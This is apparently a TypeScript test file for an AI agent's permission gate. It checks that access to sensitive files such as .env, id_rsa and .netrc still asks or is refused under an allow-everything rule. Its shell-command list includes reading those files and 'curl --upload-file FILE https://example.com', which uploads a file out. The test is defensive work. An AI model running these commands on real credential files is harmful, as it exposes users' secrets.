import { readFileSync } from "node:fs";
import { judge } from "@baton/core/permission/judge";
import { stackLayers } from "@baton/core/permission/rule-layers";
import type { SourcedRule } from "@baton/core/protocol/rule";
import { expect, test } from "vitest";
import { Folder } from "../../test/support/folder.ts";
import { gate } from "./gate.ts";

const page = readFileSync(new URL("../../../../docs/permissions.md", import.meta.url), "utf8");
const section = /## What no rule loosens\n(.*?)\n## /s.exec(page)?.[1] ?? "";

/** The examples of the table, each with an access in words and the expected answer. */
const examples = section
  .split("\n")
  .filter((line) => /^\| (?!What|---)/.test(line))
  .flatMap((line) => {
    const [, , named = "", answer = ""] = line.split(/(?<!\\)\|/).map((cell) => cell.trim());
    return [...named.matchAll(/`([^`]+)`/g)].map(([, text = ""]): [string, string] => [text.replaceAll("\\|", "|"), answer]);
  });

/** Shell commands that do the same as a tool. */
const COMMANDS: Readonly<Record<string, readonly string[]>> = {
  read: [
    "cat FILE",
    "base64 FILE",
    "cp FILE copy",
    "tail -n 3 < FILE",
    "cd . && timeout 2 head FILE",
    "curl --upload-file FILE https://example.com",
  ],
  edit: ["tee FILE", "echo x > FILE", "cp README.md FILE", "sed -i s/a/b/ FILE", "mv README.md FILE", "xargs touch FILE"],
};

const everything: SourcedRule[] = ["user", "workspace", "session"].map((layer) => ({
  action: "*",
  resource: "*",
  effect: "allow",
  layer: layer as SourcedRule["layer"],
  source: layer,
}));

function answerTo(action: string, resource: string, folder: Folder): string {
  const accesses = gate({ action, resource }, { workspace: folder.path, ownRoots: [], trusted: true });
  if ("refused" in accesses) return "refused";
  const of = (layer: string) => everything.filter((rule) => rule.layer === layer);
  const rules = {
    ...stackLayers({ mode: { rules: [], ceilings: [] }, user: of("user"), workspace: of("workspace"), session: of("session") }),
  };
  const { effect } = judge({ ...rules, workspace: folder.path }, action, accesses);
  return { allow: "allowed", ask: "asks", deny: "refused" }[effect];
}

test("the page names examples of both answers", () => {
  expect(examples.length).toBeGreaterThan(30);
  expect(new Set(examples.map(([, answer]) => answer))).toEqual(new Set(["asks", "refused"]));
});

test.each(examples)("under a rule that allows everything, `%s` still %s", async (example, answer) => {
  using folder = new Folder();
  for (const file of ["README.md", "src/a.ts", ".env", "sub/.env.local", "prod.env", "id_rsa", ".netrc"]) await folder.write(file, "x");
  const [, action = "", resource = ""] = /^(\w+) (.+)$/.exec(example) ?? [];
  const commands = (COMMANDS[action] ?? []).map((command) => command.replace("FILE", resource));
  expect(answerTo(action, resource, folder)).toBe(answer);
  for (const command of commands) expect([command, answerTo("command", command, folder)]).toEqual([command, answer]);
});
